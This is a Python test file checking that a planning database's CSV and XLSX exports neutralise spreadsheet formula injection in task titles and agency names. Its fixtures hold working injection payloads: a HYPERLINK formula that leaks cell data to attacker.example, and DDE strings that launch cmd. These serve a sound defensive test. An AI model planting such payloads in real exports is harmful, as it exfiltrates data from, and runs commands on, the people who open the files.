"""Exports cannot attack the person who opens them: no cell of a CSV or XLSX file is a formula.

A plan whose task titles and agency names start with ``=``, ``+``, ``-``, ``@``, tab or CR
is stored, exported through the real command line in every spreadsheet format, and the files
are read back with csv and openpyxl.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from conftest import STTTT, make_plan, mention
from schemas.records import Provenance, Task, Timeframe
from store import export
from store.cli import cli
from store.formats.cells import neutralise_cell
from store.ingest import save_result

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
HOSTILE_AGENCIES = (LINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")
HOSTILE_TITLES = (
    "- Rà soát, phát triển trạm BTS", "+ Tuyên truyền chuyển đổi số", "=1+1", "@SUM(A1:A9)",
    "\tTab ở đầu", "\rCR ở đầu",
)
RISKY = ("=", "+", "-", "@", "\t", "\r")


def hostile_plan() -> Any:
    tasks = [
        Task(
            key=f"I.{i + 1}", number=str(i + 1), title=title,
            lead=[mention(HOSTILE_AGENCIES[i % len(HOSTILE_AGENCIES)], None, None, ["unresolved"])],
            cooperating=[mention("Sở TT&TT", STTTT, "department")],
            timeframe=Timeframe(text="2025", start=date(2025, 1, 1), end=date(2025, 12, 31)),
            source=Provenance(page=1, table=1, row=i + 2),
        )
        for i, title in enumerate(HOSTILE_TITLES)
    ]
    return make_plan(tasks=tasks, number="=2+5/KH-UBND", title="-Kế hoạch thử")


@pytest.fixture
def hostile_db(db_url: str, session: Any) -> str:
    save_result(session, hostile_plan())
    return db_url


def run(db_url: str, *args: str) -> Any:
    result = CliRunner().invoke(cli, ["--db", db_url, "--silent", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def assert_csv_cells_safe(text: str, expected: set[str]) -> None:
    assert text.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]
    for cell in cells:
        assert not cell.startswith(RISKY), repr(cell)
    restored = {cell.removeprefix("'") for cell in cells}
    assert expected <= restored, expected - restored  # each text reads back exactly, less one '


def assert_xlsx_cells_safe(path: Path, expected: set[str]) -> None:
    sheet = load_workbook(path).active
    values = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(RISKY):
                assert cell.quotePrefix, (cell.coordinate, cell.value)
            values.add(cell.value)
    assert expected <= values, expected - values  # text kept exactly as written


@pytest.mark.parametrize("command", [("matrix",), ("checklist",)])
def test_csv_exports_neutralise_data_and_header_cells(hostile_db: str, command: tuple[str, ...], tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    run(hostile_db, *command, "--format", "csv", "-o", str(out))
    with out.open(encoding="utf-8", newline="") as fh:
        text = fh.read()
    assert_csv_cells_safe(text, {*HOSTILE_TITLES, *HOSTILE_AGENCIES})
    assert "'- Rà soát, phát triển trạm BTS" in text  # the bullet still reads right


@pytest.mark.parametrize("command", ["tasks", "agencies", "documents", "targets"])
def test_csv_listings_neutralise_every_cell(hostile_db: str, command: str) -> None:
    text = run(hostile_db, command, "--format", "csv").stdout
    assert_csv_cells_safe(text, set())


def test_matrix_header_agency_is_no_formula_in_xlsx(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "matrix.xlsx"
    run(hostile_db, "matrix", "--format", "xlsx", "-o", str(out))
    assert_xlsx_cells_safe(out, {*HOSTILE_TITLES, *HOSTILE_AGENCIES})
    header = [c.value for c in load_workbook(out).active[1]]
    assert LINK in header


def test_checklist_xlsx_has_no_formula(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "checklist.xlsx"
    run(hostile_db, "checklist", "--format", "xlsx", "-o", str(out))
    assert_xlsx_cells_safe(out, {*HOSTILE_TITLES, *HOSTILE_AGENCIES})


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert neutralise_cell("-5") == "-5"
    assert neutralise_cell("+2.5") == "+2.5"
    assert neutralise_cell("-1+2") == "'-1+2"
    assert neutralise_cell("Sở Y tế") == "Sở Y tế"
    assert neutralise_cell(40.0) == 40.0
    assert neutralise_cell(None) is None


def test_xlsx_export_drops_control_characters_instead_of_failing(tmp_path: Path) -> None:
    path = tmp_path / "grid.xlsx"
    export.write_grid_xlsx(["document", "task_key", "task", "Sở\x01 Y tế"], [["d", "1", "=x\x02", "L"]], path)
    sheet = load_workbook(path).active
    assert sheet["D1"].value == "Sở Y tế" and sheet["C2"].value == "=x" and sheet["C2"].data_type == "s"
